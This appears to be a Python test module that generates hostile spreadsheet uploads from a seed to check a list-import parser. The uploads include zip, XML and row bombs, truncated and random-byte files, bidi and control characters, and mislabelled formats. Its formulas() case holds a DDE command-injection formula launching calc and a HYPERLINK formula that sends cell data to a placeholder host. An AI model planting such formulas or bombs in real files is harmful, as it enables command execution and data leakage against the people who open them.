"""Makes lists that mean harm, or look as if: every kind that "hostile lists" names, from a seed."""

import struct
from collections.abc import Callable
from random import Random

from caseapp.domain import list_errors as e
from intake import workbooks as w
from intake.attack import Hostile, Rows, people
from intake.hostile_files import (
    encrypted,
    flipped_bytes,
    html_in_xls,
    image,
    lying_zip_bomb,
    macro,
    names_as_paths,
    other_archives,
    pdf,
    spaces_bomb,
    string_bomb,
    twice_the_same_part,
    xml_bomb,
    zip_bomb,
)


def truncated(rng: Random) -> Hostile:
    make, name = rng.choice([(w.openpyxl_xlsx, "a.xlsx"), (w.ods, "a.ods"), (w.xls, "a.xls")])
    data = make(people(rng, 20))
    return Hostile("truncated", name, data[: rng.randint(9, len(data) * 2 // 3)], (e.ListBroken,))


def random_bytes(rng: Random) -> Hostile:
    name = rng.choice(["a.xlsx", "a.xls", "a.ods", "a.csv", "a.txt"])
    data = bytes([rng.randint(0x80, 0xFF)]) + rng.randbytes(rng.randint(600, 60_000))
    return Hostile("random bytes", name, data, (e.NotAList, e.NoListFound))


def random_behind_magic(rng: Random) -> Hostile:
    magic, name = rng.choice(
        [(b"PK\x03\x04", "a.xlsx"), (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "a.xls")]
    )
    data = magic + rng.randbytes(rng.randint(100, 9_000))
    return Hostile("random behind magic", name, data, (e.ListBroken,))


def row_bomb(rng: Random) -> Hostile:
    rows = people(rng, 3)
    kind = rng.randrange(3)
    if kind == 0:
        repeats = rng.choice([30_000, 2**20, 2**31 - 1, 10**12])
        row = f"<table:table-row table:number-rows-repeated='{repeats}'>{w.ods_cell('x')}</table:table-row>"
        return Hostile(
            "row bomb",
            "a.ods",
            w.zipped(w.ods_parts(w.ods_rows(rows) + row)),
            (e.ListTooBig, e.ListBroken),
        )
    if kind == 1:
        lines = "№;ПІБ\n" + "1;Вигадченко Іван Іванович\n" * 20_001
        return Hostile("row bomb", "a.csv", lines.encode(), (e.ListTooBig,))
    place = rng.choice(["XFD1048576", "A20001", "B1048576", "KN5"])
    return Hostile("row bomb", "a.xlsx", w.shared_xlsx(rows, w.inline(place, "x")), (e.ListTooBig,))


def far_blank_at_the_end(rng: Random) -> Hostile:
    data = w.shared_xlsx(people(rng, 3), w.inline("XFD1048576", " "))
    return Hostile("blank at the end of the world", "a.xlsx", data, (e.ListTooBig,))


def far_blank(rng: Random) -> Hostile:
    rows = people(rng, 5)
    kind = rng.randrange(3)
    if kind == 0:
        return Hostile(
            "far blank", "a.xlsx", w.shared_xlsx(rows, w.inline("ZZ20000", " ")), (None,)
        )
    if kind == 1:
        return Hostile("far blank", "a.xls", w.xls(rows, {(30_000, 250): "  "}), (None,))
    row = f"<table:table-row table:number-rows-repeated='19000'/><table:table-row>{w.ods_cell(None, 700)}{w.ods_cell(' ')}</table:table-row>"
    return Hostile("far blank", "a.ods", w.zipped(w.ods_parts(w.ods_rows(rows) + row)), (None,))


def many_columns(rng: Random) -> Hostile:
    wide = 100_000
    kind = rng.randrange(3)
    if kind == 0:
        data = ("ПІБ" + ";x" * wide + "\nВигадченко Іван Іванович\n").encode()
        return Hostile("100,000 columns", "a.csv", data, (e.ListTooBig,))
    if kind == 1:
        row = f"<table:table-row>{w.ods_cell('x', wide)}</table:table-row>"
        return Hostile("100,000 columns", "a.ods", w.zipped(w.ods_parts(row)), (e.ListTooBig,))
    cells = "".join(f"<c r='{w.letters(at)}1'><v>1</v></c>" for at in range(1, wide))
    return Hostile(
        "100,000 columns",
        "a.xlsx",
        w.zipped(w.xlsx_parts(f"<sheetData><row r='1'>{cells}</row></sheetData>")),
        (e.ListTooBig,),
    )


def formulas(rng: Random) -> Hostile:
    rows = people(rng, 4)
    rows[1][1] = '=HYPERLINK("http://example.invalid/?"&A2,"Вигадченко Іван")'
    rows[2][3] = "=cmd|' /C calc'!A0"
    data = w.openpyxl_xlsx(rows) if rng.random() < 0.5 else _csv(rows)
    return Hostile("formulas", "a.xlsx" if data[:2] == b"PK" else "a.csv", data, (None,))


def control_and_bidi(rng: Random) -> Hostile:
    rows = people(rng, 4)
    signs = "\u202e\u2066\u200b\u200f\ufeff\u0007\u001b[2J\u0085"
    for row in rows[1:]:
        at = rng.randint(1, len(str(row[1])) - 1)
        row[1] = f"{str(row[1])[:at]}{rng.choice(signs)}{str(row[1])[at:]}"
    return Hostile("control and bidi", "a.csv", _csv(rows), (None,))


def long_cells(rng: Random) -> Hostile:
    rows = people(rng, 4)
    rows[2][3] = "я" * rng.randint(10_001, 500_000)
    return Hostile("long cells", "a.xlsx", w.shared_xlsx(rows), (None,))


def wrong_extension(rng: Random) -> Hostile:
    """What the file is counts, not what it is called."""
    data, name = rng.choice(
        [
            (w.openpyxl_xlsx(people(rng, 3)), "a.csv"),
            (_csv(people(rng, 3)), "a.xlsx"),
            (w.xls(people(rng, 3)), "a.xlsx"),
            (w.ods(people(rng, 3)), "a.xls"),
        ]
    )
    return Hostile("wrong extension", name, data, (None,))


def empty(rng: Random) -> Hostile:
    kind = rng.randrange(4)
    if kind == 0:
        return Hostile("empty", "a.xlsx", b"", (e.NotAList,))
    if kind == 1:
        return Hostile("empty", "a.csv", b"\xef\xbb\xbf \r\n\r\n", (e.NotAList,))
    if kind == 2:
        return Hostile("empty", "a.xlsx", w.openpyxl_xlsx([]), (e.NoListFound,))
    return Hostile("empty", "a.ods", w.ods([]), (e.NoListFound,))


def no_list(rng: Random) -> Hostile:
    rows: Rows = [
        ["Артикул", "Кількість", "Ціна"],
        *([f"А-{rng.randint(1, 99)}", n, n * 2.5] for n in range(20)),
    ]
    data = rng.choice(
        [w.openpyxl_xlsx(rows), _csv(rows), "\n".join(["Просто текст без списку."] * 5).encode()]
    )
    return Hostile("no list", "a.xlsx", data, (e.NoListFound,))


def too_large(rng: Random) -> Hostile:
    return Hostile("too large", "a.csv", b"x" * (20 * 2**20 + rng.randint(1, 99)), (e.ListTooBig,))


def lying_xls(rng: Random) -> Hostile:
    """An .xls that says it reaches to the end of the world, though it does not."""
    data = w.xls(people(rng, 5))
    told = w.patched_record(data, 0x200, struct.pack("<IIHH", 0, 2**31, 0, 0xFFFF))
    return Hostile("lying xls", "a.xls", told, (None,))


KINDS: tuple[Callable[[Random], Hostile], ...] = (
    truncated, flipped_bytes, random_bytes, random_behind_magic, zip_bomb, lying_zip_bomb, row_bomb,
    far_blank, far_blank_at_the_end, xml_bomb, spaces_bomb, string_bomb, many_columns, formulas, control_and_bidi,
    long_cells, wrong_extension, html_in_xls, encrypted, macro, empty, no_list, pdf, image, too_large,
    names_as_paths, twice_the_same_part, other_archives, lying_xls,
)  # fmt: skip


def _csv(rows: Rows) -> bytes:
    return "\n".join(
        ";".join("" if cell is None else str(cell) for cell in row) for row in rows
    ).encode()
